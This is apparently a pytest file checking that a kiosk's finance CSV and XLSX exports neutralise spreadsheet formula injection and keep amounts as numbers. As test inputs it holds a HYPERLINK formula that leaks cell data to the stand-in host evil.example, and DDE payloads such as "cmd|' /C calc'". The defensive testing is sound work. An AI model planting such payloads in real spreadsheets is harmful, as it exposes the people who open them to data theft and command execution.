"""Finance exports opened in a spreadsheet never run a cell as a formula (OWASP CSV injection),
whatever column the text is in and wherever it came from; amounts stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime

import openpyxl
import pytest

from kiosk import exports
from kiosk.exports import COLUMNS, write_csv, write_xlsx
from kiosk.insurer.models import ClaimStatus
from kiosk.journal import PaymentMethod
from kiosk.reports import ClaimCategory, ClaimLine, masked_member

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet takes as the start of a formula (OWASP's list)."""


def claim_line(**changes: object) -> ClaimLine:
    values: dict[str, object] = {
        "claim_id": 1,
        "visit_id": 1,
        "bill_id": 1,
        "invoice_no": "INV-0001",
        "service_date": date(2026, 11, 20),
        "member_masked": masked_member("M26000101"),
        "category": ClaimCategory.ACCEPTED,
        "insurer_claim_id": "CLM-000001",
        "insurer_status": ClaimStatus.ACCEPTED,
        "reject_code": None,
        "attention_reason": None,
        "idempotency_key": "3f2a1c0e-idem",
        "billed_fen": 12_000,
        "shown_covered_fen": 12_000,
        "covered_fen": 12_000,
        "family_share_fen": 0,
        "visit_paid_fen": 0,
        "payment_methods": (PaymentMethod.CASH,),
        "queued_at": datetime(2026, 11, 20, 2, 0, tzinfo=UTC),
        "recorded_at": datetime(2026, 11, 20, 2, 1, tzinfo=UTC),
    }
    values.update(changes)
    return ClaimLine(**values)


def csv_rows(path):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def xlsx_cell(path, column):
    return openpyxl.load_workbook(path)["claims"].cell(2, COLUMNS.index(column) + 1)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
@pytest.mark.parametrize("column", COLUMNS)
def test_text_in_any_column_that_a_spreadsheet_would_run_is_neutralised(
    tmp_path, monkeypatch, column, trigger
):
    """Whatever ends up as text in any column — today's values or a later change's — is
    covered: the writers, not each column, make cells safe."""
    payload = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"open")'
    real = exports.claim_values

    def values_with_payload(line):
        return {**real(line), column: payload}

    monkeypatch.setattr(exports, "claim_values", values_with_payload)

    write_csv(tmp_path / "claims.csv", [claim_line()])
    [row] = csv_rows(tmp_path / "claims.csv")
    assert row[column] == "'" + payload

    write_xlsx(tmp_path / "claims.xlsx", [claim_line()])
    cell = xlsx_cell(tmp_path / "claims.xlsx", column)
    assert cell.data_type == "s", "text in a workbook is a string cell, never a formula"
    assert cell.quotePrefix, "and stays text when someone edits the cell"
    # XML turns a carriage return into a line feed on reading; the text is otherwise exact.
    assert cell.value == payload.replace("\r", "\n")


def test_the_kiosks_own_values_are_neutralised_too(tmp_path):
    """A member reference masked to '=1+…', an invoice number or an idempotency key starting
    with '-' are text like any other."""
    line = claim_line(
        member_masked=masked_member("=1+2*cmd|' /C calc'!A0"),
        invoice_no="@SUM(1+1)*cmd|' /C calc'!A0",
        idempotency_key="-2+3+cmd|' /C calc'!A0",
        insurer_claim_id="+86-138",
        reject_code="\t=1",
    )
    write_csv(tmp_path / "claims.csv", [line])
    [row] = csv_rows(tmp_path / "claims.csv")
    for column in ("member", "invoice_no", "idempotency_key", "insurer_claim_id", "reject_code"):
        assert row[column].startswith("'"), column
    assert row["idempotency_key"] == "'-2+3+cmd|' /C calc'!A0"


def test_a_leading_apostrophe_is_doubled_so_finance_can_undo_the_rule(tmp_path):
    """One rule to read the CSV back exactly: drop one leading apostrophe from text."""
    line = claim_line(invoice_no="'=quoted", insurer_claim_id="CLM'1")
    write_csv(tmp_path / "claims.csv", [line])
    [row] = csv_rows(tmp_path / "claims.csv")
    assert row["invoice_no"] == "''=quoted"
    assert row["insurer_claim_id"] == "CLM'1"


def test_amounts_written_as_numbers_stay_numbers_even_when_negative(tmp_path):
    """Integer fen are numbers the kiosk wrote, and '-500' is a number to every spreadsheet,
    not a formula: no apostrophe, or finance could not add them up."""
    line = claim_line(family_share_fen=-500, visit_paid_fen=-123_456)
    write_csv(tmp_path / "claims.csv", [line])
    [row] = csv_rows(tmp_path / "claims.csv")
    assert (row["family_share_fen"], row["family_share_yuan"]) == ("-500", "-5.00")
    assert (row["visit_paid_fen"], row["visit_paid_yuan"]) == ("-123456", "-1,234.56")
    write_xlsx(tmp_path / "claims.xlsx", [line])
    cell = xlsx_cell(tmp_path / "claims.xlsx", "family_share_fen")
    assert (cell.value, cell.data_type) == (-500, "n")


def test_characters_a_workbook_cannot_hold_do_not_stop_the_export(tmp_path):
    line = claim_line(insurer_claim_id="CLM\x00\x01\x1f-1", reject_code="\x0bR01")
    write_xlsx(tmp_path / "claims.xlsx", [line])
    assert (
        xlsx_cell(tmp_path / "claims.xlsx", "insurer_claim_id").value == "CLM\ufffd\ufffd\ufffd-1"
    )
    write_csv(tmp_path / "claims.csv", [line])
    [row] = csv_rows(tmp_path / "claims.csv")
    assert row["insurer_claim_id"] == "CLM\x00\x01\x1f-1"
